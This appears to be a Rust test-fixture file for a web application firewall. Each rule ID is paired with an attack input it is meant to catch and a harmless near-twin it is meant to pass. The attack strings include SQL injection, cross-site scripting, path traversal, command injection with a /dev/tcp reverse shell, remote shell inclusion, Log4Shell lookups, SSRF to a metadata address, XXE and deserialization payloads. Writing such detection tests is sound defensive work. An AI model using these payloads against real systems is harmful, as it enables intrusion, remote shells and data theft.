//! For every rule an attack that it finds, and the nearest ordinary thing, in which no rule finds anything.

use super::wire::At;

type Row = (u32, At, &'static [u8], &'static [u8]);

pub(crate) const ROWS: &[Row] = &[
    (9_700_020, At::Body("application/json"), b"{\"a\":", b"{\"a\":1}"),
    (
        9_700_021,
        At::Body("multipart/form-data; boundary=line"),
        b"before\r\n--line\nContent-Disposition: form-data; name=\"a\"\n\nb\n--line--\n",
        b"--line\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--line--\r\n",
    ),
    // Protocol.
    (9_700_100, At::Method, b"TRACE", b"PUT"),
    (9_700_101, At::Target, b"/files/%c0%ae%c0%ae/secret", b"/files/%C3%A4pfel"),
    (9_700_102, At::Target, b"/files/a.php%00.jpg", b"/files/100%25.jpg"),
    (9_700_103, At::Form("file"), b"a.php\0.jpg", b"a.php or .jpg"),
    (9_700_104, At::Header("Connection"), b"close, X-Forwarded-For", b"keep-alive, Upgrade"),
    (
        9_700_105,
        At::Header("Range"),
        b"bytes=0-1,1-2,2-3,3-4,4-5,5-6,6-7,7-8,8-9,9-10,10-11,11-12",
        b"bytes=0-99,200-299",
    ),
    (9_700_106, At::Headers, b"Content-Type: text/plain\nContent-Type: text/html", b"Content-Type: text/plain"),
    (9_700_107, At::Header("Content-Type"), b"text/plain; charset=utf-7", b"text/plain; charset=utf-8"),
    (9_700_108, At::Header("X-Original-URL"), b"/admin", b""),
    (9_700_109, At::HeaderName, b"Proxy", b"Priority"),
    (9_700_110, At::Header("X-HTTP-Method-Override"), b"TRACE", b"PATCH"),
    (9_700_111, At::Headers, b"Host: shop.example/admin", b"Host: b\xc3\xbccher.example:8080"),
    (9_700_112, At::Query("q"), b"x\r\nGET /admin HTTP/1.1\r\n", b"how to get /admin with HTTP/1.1"),
    // Scanners.
    (9_700_200, At::Header("User-Agent"), b"sqlmap/1.8 (https://sqlmap.org)", b"Mozilla/5.0 (compatible; bingbot/2.0)"),
    (9_700_201, At::Header("User-Agent"), b"Fuzz Faster U Fool v2.1", b"curl/8.5.0"),
    (9_700_202, At::HeaderName, b"X-Scan-Memo", b"X-Scandinavia"),
    (9_700_203, At::Query("url"), b"http://abc123.oast.fun/x", b"https://oast.example/fun"),
    // Hidden files.
    (9_700_300, At::Target, b"/.git/config", b"/.well-known/security.txt"),
    (9_700_301, At::Target, b"/app/.env", b"/app/environment"),
    (9_700_302, At::Target, b"/config.php.bak", b"/downloads/holiday.old.jpg"),
    (9_700_303, At::Target, b"/backup.sql", b"/articles/backup-with-sql"),
    (9_700_304, At::Target, b"/actuator/heapdump", b"/actuator/health"),
    // SQL.
    (9_701_000, At::Form("user"), b"' or 1=1 -- ", b"having friends over is nice"),
    (9_701_001, At::Query("id"), b"7)/**/union/**/all/**/select/**/null,null", b"The student union selects its board"),
    (9_701_002, At::Form("id"), b"1; DROP TABLE customers", b"drop me a line; thanks"),
    (9_701_003, At::Query("id"), b"1 and if(1,sleep(5),0)", b"I like to sleep (8 hours), and you?"),
    (
        9_701_004,
        At::Query("q"),
        b"x' and exists(select 1 from information_schema.tables)",
        b"Where is the information schema?",
    ),
    (9_701_005, At::Query("q"), b"1;exec master..xp_cmdshell 'dir'", b"the exec and the master"),
    (9_701_006, At::Query("q"), b"1 /*!50000union*/ /*!50000select*/ 1", b"/* a note */"),
    (9_701_007, At::Form("user"), b"admin'--", b"the '90s -- great"),
    // Script.
    (9_701_100, At::Form("text"), b"<img src=1 onerror=alert(1)>", b"1 < 2 and 3 > 2, you = me"),
    (9_701_101, At::Form("text"), b"</script><script src=//x.example>", b"the script <3"),
    (9_701_102, At::Form("text"), b"<a onmouseover='x()'>hi</a>", b"<a href=\"/on\">on = off</a>"),
    (9_701_103, At::Form("text"), b"\" onfocus=x() autofocus=\"", b"\"come on\" = let's go"),
    (9_701_104, At::Form("link"), b"javascript:alert(1)", b"JavaScript"),
    (9_701_105, At::Form("link"), b"data:text/html;base64,PHNjcmlwdD4=", b"data:image/png;base64,iVBORw0KGgo="),
    (9_701_106, At::Form("text"), b"<iframe src=//evil.example></iframe>", b"<figure>a frame</figure>"),
    // Paths.
    (9_701_200, At::Target, b"/static/..%2f..%2fetc/hosts", b"/compare/v1.0...v1.1"),
    (9_701_201, At::Query("file"), b"....//....//config", b"reports/2024..2025/a.pdf"),
    (9_701_202, At::Query("file"), b"/etc/passwd", b"/etc/"),
    (9_701_203, At::Query("file"), b"C:\\Windows\\win.ini", b"Windows"),
    (9_701_204, At::Query("page"), b"php://input", b"php"),
    // Remote files.
    (9_701_300, At::Query("page"), b"http://192.0.2.7/shell.txt?", b"https://shop.example/about"),
    // Commands.
    (9_701_400, At::Query("host"), b"192.0.2.1; cat /var/www/config.inc", b"cats; dogs / birds"),
    (9_701_401, At::Query("host"), b"192.0.2.1|whoami", b"name|id|price"),
    (9_701_402, At::Query("name"), b"`id -u`", b"run `ls -la` in the folder"),
    (9_701_403, At::Query("name"), b"cat${IFS}/tmp/x", b"costs ${PRICE}"),
    (9_701_404, At::Form("x"), b"bash -i >& /dev/tcp/192.0.2.1/443 0>&1", b"bash in /dev"),
    (9_701_405, At::Form("x"), b"a & powershell -enc SQBFAFgA", b"tea & power"),
    (9_701_406, At::Header("Referer"), b"() { :; }; echo x", b"https://shop.example/()"),
    (9_701_407, At::Form("cmd"), b"whoami", b"start"),
    // Code.
    (9_701_500, At::Form("text"), b"<?php echo 1; ?>", b"<?> php"),
    (9_701_501, At::Form("text"), b"${@print(1)};system('id')", b"the solar system (ours)"),
    (9_701_502, At::Name, b"GLOBALS[x]", b"globals_list"),
    (9_701_503, At::Cookie("data"), b"O:8:\"stdClass\":0:{}", b"a:8"),
    (9_701_504, At::Form("state"), b"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", b"rOoABXNy"),
    (9_701_510, At::Form("name"), b"${7*7}", b"{{ user.name }} ${total}"),
    (9_701_511, At::Form("name"), b"{{config.items()}}", b"{{ configuration }}"),
    (9_701_512, At::Form("name"), b"%{(#a=1).(@java.lang.Runtime@getRuntime())}", b"100%{ish}"),
    (9_701_513, At::Name, b"class.module.classLoader.URLs[0]", b"class.name"),
    (9_701_514, At::Header("User-Agent"), b"${${lower:j}ndi:ldap://x.example/a}", b"Agent/${version}"),
    (9_701_520, At::Form("x"), b"require('child_process').exec('id')", b"we require('d) two"),
    // NoSQL, LDAP.
    (9_701_600, At::Name, b"password[$ne]", b"price[$gt]"),
    (9_701_601, At::Form("filter"), b"{\"$where\":\"1\"}", b"{\"price\":12}"),
    (9_701_610, At::Form("user"), b"x)(|(uid=*", b"(me) (you)"),
    // XML.
    (
        9_701_700,
        At::Body("application/xml"),
        b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hostname\">]><a>&b;</a>",
        b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><a><b>c</b></a>",
    ),
    (
        9_701_701,
        At::Body("text/xml"),
        b"<?xml version=\"1.0\" encoding=\"UTF-7\"?><a>+ADw-</a>",
        b"<?xml version=\"1.0\" encoding=\"utf-8\"?><a>x</a>",
    ),
    // Prototypes.
    (9_701_800, At::Member, b"__proto__", b"prototype"),
    (9_701_801, At::Form("merge"), b"{\"__proto__\":{\"admin\":true}}", b"{\"proto\":{\"admin\":true}}"),
    // Requests by the server.
    (9_701_900, At::Query("url"), b"http://169.254.169.254/latest/", b"https://example.com/169.254"),
    (9_701_901, At::Query("url"), b"dict://127.0.0.1:11211/stat", b"dict: a book of words"),
    // Header lines.
    (9_702_000, At::Query("lang"), b"de\r\nSet-Cookie: a=b", b"de\r\nSet the table"),
    (9_702_001, At::Form("email"), b"a@x.example\nBcc: b@x.example", b"a@x.example"),
    (9_702_002, At::Target, b"/a%0d%0aX:%20y", b"/a%20b"),
    // Sessions.
    (9_702_100, At::Headers, b"Referer: https://evil.example/", b"Referer: https://shop.example/"),
    (9_702_101, At::Form("x"), b"document.cookie='sid=1; path=/'", b"I like my cookie = a biscuit"),
    // Uploads.
    (9_702_200, At::File, b"picture.php.jpg", b"picture.jpeg"),
    (9_702_210, At::Target, b"/images/c99.php", b"/images/c99.png"),
    (9_702_211, At::Target, b"/wp-content/uploads/2024/01/x.php", b"/wp-content/uploads/2024/01/x.pdf"),
    // Answers.
    (
        9_703_000,
        At::Answer,
        b"You have an error in your SQL syntax; check the manual",
        b"<p>There is an error in your order: the syntax of the postcode is wrong.</p>",
    ),
    (
        9_703_001,
        At::Answer,
        b"Traceback (most recent call last):\n  File \"/srv/app.py\", line 3, in <module>",
        b"<p>We could trace it back to the last call.</p>",
    ),
    (
        9_703_002,
        At::Answer,
        b"<br /><b>Warning</b>: include(x) failed in <b>/var/www/a.php</b> on line <b>3</b>",
        b"<b>Warning</b>: wet floor in <b>line</b> 3",
    ),
    (9_703_003, At::Answer, b"<?php $password = 'x';", b"&lt;?php is how it begins"),
    (9_703_004, At::Answer, b"<html><title>Index of /backup</title>", b"<html><title>Index of authors</title>"),
    (9_703_005, At::Answer, b"-----BEGIN RSA PRIVATE KEY-----\nMIIE", b"-----BEGIN CERTIFICATE-----\nMIIE"),
    (9_703_006, At::Answer, b"root:x:0:0:root:/root:/bin/bash\n", b"the root: x is 0:0"),
    // Paranoia 2. The twins pass at paranoia 1, and the rule is silent at 2.
    (9_704_001, At::Header("Content-Encoding"), b"gzip", b"identity"),
    (9_704_002, At::Target, b"/a%252fb", b"/a%2fb"),
    (9_704_003, At::Target, b"/composer.lock", b"/composers/lock"),
    (9_704_011, At::Form("q"), b"\"a\" and b = c", b"\"a\" or something else"),
    (9_704_012, At::Form("q"), b"select name from users", b"select the best for our union"),
    (9_704_013, At::Form("q"), b"call alert(1) then", b"on high alert (again)"),
    (9_704_014, At::Form("q"), b"tea; cat and mouse", b"tea; dogs and mice"),
    (9_704_015, At::Name, b"price[$gt]", b"price[gt]"),
    (9_704_016, At::Form("url"), b"http://10.0.0.1/", b"https://example.com/10.0.0.1"),
    (9_704_017, At::Target, b"/a?PHPSESSID=1", b"/a?id=1"),
    (9_704_018, At::File, b"setup.exe", b"executive.pdf"),
    // The decision.
    (9_709_009, At::Target, b"/.git/HEAD", b"/git/head"),
    (9_709_019, At::Query("q"), b"<script>x</script>", b"script"),
    (9_709_029, At::Answer, b"-----BEGIN PRIVATE KEY-----", b"private key"),
];
